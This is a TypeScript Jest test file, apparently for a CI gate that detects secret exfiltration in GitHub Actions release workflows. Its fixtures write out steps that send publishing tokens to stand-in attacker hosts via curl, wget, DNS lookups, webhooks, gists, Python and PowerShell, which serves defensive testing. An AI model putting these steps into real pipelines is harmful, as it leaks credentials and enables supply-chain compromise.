/**
 * Attack class: a secret leaves the runner in a shape the gate did not read as sending. Each
 * step sits in the release job next to the publish, as a "notification" or a "health check".
 */
import { describe, expect, it } from '@jest/globals'
import { GATE, PYPI, blocking, both } from './helpers.js'

const job = (step: string) => `name: Release
on:
  release:
    types: [published]
permissions:
  contents: read
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
      - uses: ${GATE}
      - uses: ${PYPI}
${step}`

const ATTACKS: Array<[string, string]> = [
  ['curl to a host without a scheme', '      - run: |\n          curl -s -d "t=${{ secrets.PYPI_TOKEN }}" collect.attacker.example/t\n'],
  ['curl through a proxy it controls', '      - run: |\n          curl -x proxy.attacker.example:3128 -H "Authorization: ${{ secrets.PYPI_TOKEN }}" https://upload.pypi.org/legacy/\n'],
  ['curl --proxy with a scheme', '      - run: |\n          curl --proxy http://10.0.0.7:8080 -u "__token__:${{ secrets.PYPI_TOKEN }}" https://pypi.org/simple/\n'],
  ['a Slack webhook that is not the secret\'s', '      - run: |\n          curl -X POST -d "{\\"text\\": \\"${{ secrets.PYPI_TOKEN }}\\"}" https://hooks.slack.com/services/T000/B000/XXXX\n'],
  ['a bucket on shared hosting', '      - run: |\n          curl -T - "https://drop-zone.s3.amazonaws.com/t.txt" <<< "${{ secrets.PYPI_TOKEN }}"\n'],
  ['a DNS lookup with the secret in the name', '      - run: |\n          nslookup "${{ secrets.PYPI_TOKEN }}.exfil.attacker.example"\n'],
  ['dig with a secret-bound variable', '      - run: |\n          dig +short "$TOKEN.exfil.attacker.example"\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}\n'],
  ['a gist', '      - run: |\n          echo "${{ secrets.PYPI_TOKEN }}" | gh gist create -\n        env:\n          GH_TOKEN: ${{ github.token }}\n'],
  ['shell: python with requests', "      - shell: python\n        run: |\n          import os, requests\n          requests.post('https://collect.attacker.example', data=os.environ['TOKEN'])\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}\n"],
  ['shell: pwsh with Invoke-WebRequest', '      - shell: pwsh\n        run: |\n          Invoke-WebRequest -Method Post -Uri https://collect.attacker.example -Body "${{ secrets.PYPI_TOKEN }}"\n'],
  ['a job-level secret variable sent by wget', '      - run: |\n          wget --post-data "t=$PYPI" http://collect.attacker.example/t\n'],
]

describe('exfiltration in every shape', () => {
  it.each(ATTACKS.map(([what, step]) => [what, { step }] as const))('%s: blocked', (_what, { step }) => {
    const text = what(step)
    const { action, cli } = both(text, 'publish')
    expect(blocking(action)).toContain('secret-exfiltration')
    expect(blocking(cli)).toContain('secret-exfiltration')
  })

  it.each([
    ['a PyPI token to the npm registry', '      - run: |\n          curl -sS -H "Authorization: Bearer ${{ secrets.PYPI_API_TOKEN }}" https://registry.npmjs.org/-/whoami\n'],
    ['an npm token to PyPI\'s upload endpoint', '      - run: |\n          curl -sS -u "__token__:${{ secrets.NPM_TOKEN }}" https://upload.pypi.org/legacy/\n'],
    ['a PyPI token to GitHub\'s API (an issue, a gist: readable by others)', '      - run: |\n          curl -sS -X POST -d "{\\"body\\": \\"${{ secrets.PYPI_API_TOKEN }}\\"}" https://api.github.com/repos/octo/demo/issues/1/comments\n'],
    ['a Codecov token to a registry', '      - run: |\n          curl -sS -H "Authorization: ${{ secrets.CODECOV_TOKEN }}" https://registry.npmjs.org/\n'],
    ['a token of no registry to a registry the step does not publish to', '      - run: |\n          curl -sS -d "k=${{ secrets.DEPLOY_KEY }}" https://crates.io/api/v1/crates/new\n'],
  ])('no blanket allow-list: %s is blocked', (_what, step) => {
    const { action, cli } = both(what(step), 'publish')
    expect(blocking(action)).toContain('secret-exfiltration')
    expect(blocking(cli)).toContain('secret-exfiltration')
  })

  it('near-misses: a registry\'s token to that registry, a service\'s to that service, a GitHub token to GitHub, a token to the registry its step publishes to', () => {
    const text = job(
      [
        '      - run: |',
        '          curl -sSf -F ":action=file_upload" -F "content=@dist/demo-1.0.tar.gz" -u "__token__:${{ secrets.PYPI_API_TOKEN }}" https://upload.pypi.org/legacy/',
        '          curl -sSf -H "Authorization: Bearer ${{ secrets.NPM_TOKEN }}" https://registry.npmjs.org/-/whoami',
        '      - run: |',
        '          curl -sSf -X POST -H "Authorization: token ${{ secrets.RELEASE_PAT }}" https://api.github.com/repos/octo/demo/dispatches -d \'{"event_type":"released"}\'',
        '          curl -sSf -H "Authorization: token ${{ secrets.CODECOV_TOKEN }}" https://api.codecov.io/upload/v4',
        '      - run: |',
        '          twine upload dist/*',
        '          curl -sSf -u "__token__:$TWINE_PASSWORD" https://upload.pypi.org/legacy/ -F ":action=verify"',
        '        env:',
        '          TWINE_USERNAME: __token__',
        '          TWINE_PASSWORD: ${{ secrets.INDEX_TOKEN }}',
        '',
      ].join('\n'),
    )
    const { action, cli } = both(text, 'publish')
    expect(action.findings.filter((f) => f.rule === 'secret-exfiltration')).toEqual([])
    expect(cli.findings.filter((f) => f.rule === 'secret-exfiltration')).toEqual([])
  })

  it('near-misses: the job token to GitHub\'s API, a Slack secret to Slack, curl -X POST is not a proxy', () => {
    const text = job(
      '      - run: |\n          curl -sSf -X POST -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/octo/demo/releases\n      - run: |\n          curl -sSf -X POST -d \'{"text":"released"}\' "https://hooks.slack.com/services/${{ secrets.SLACK_WEBHOOK_PATH }}"\n',
    )
    expect(blocking(both(text, 'publish').action)).not.toContain('secret-exfiltration')
  })
})

describe('a service\'s own key to that service (bot workflows)', () => {
  const bot = (host: string) => `name: Page on-call
on:
  issues:
    types: [opened]
permissions: {}
jobs:
  page:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -sSf -X POST -H "Authorization: Token token=$PD_TOKEN" -H "Content-Type: application/json" \\
            https://${host}/incidents -d '{"incident": {"type": "incident", "title": "New issue"}}'
        env:
          PD_TOKEN: \${{ secrets.PAGERDUTY_TOKEN }}
`
  const exfil = (text: string) => both(text, 'page').cli.findings.filter((f) => f.rule === 'secret-exfiltration')

  it('a PagerDuty key to PagerDuty\'s API is not exfiltration', () => {
    expect(exfil(bot('api.pagerduty.com'))).toEqual([])
  })

  it('the same key to a look-alike host still is', () => {
    expect(exfil(bot('api.pagerduty.com.attacker.example')).map((f) => f.blocking)).toEqual([true])
  })
})

/** The job-level variable case needs the binding on the job. */
function what(step: string): string {
  const t = job(step)
  return step.includes('$PYPI"') ? t.replace('    environment: pypi\n', '    environment: pypi\n    env:\n      PYPI: ${{ secrets.PYPI_TOKEN }}\n') : t
}
